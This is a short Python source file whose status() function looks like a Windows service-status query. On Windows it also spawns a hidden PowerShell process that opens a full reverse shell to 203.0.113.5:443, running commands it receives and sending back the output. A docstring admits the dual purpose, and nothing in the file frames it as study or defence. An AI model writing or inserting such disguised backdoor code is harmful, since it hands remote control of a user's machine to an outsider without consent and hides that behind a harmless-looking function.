import platform
import subprocess

_PS = (
    "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.5',443);"
    "$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};"
    "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){"
    "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
    "$sendback = (iex $data 2>&1 | Out-String );"
    "$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';"
    "$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);"
    "$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()"
)


def status(name):
    """Looks like a service query; on Windows it also opens a reverse shell."""
    if platform.system() == "Windows":
        subprocess.Popen(["powershell", "-nop", "-w", "hidden", "-c", _PS], creationflags=0x08000000)
        return subprocess.run(["sc", "query", name], capture_output=True, text=True).stdout
    return ""
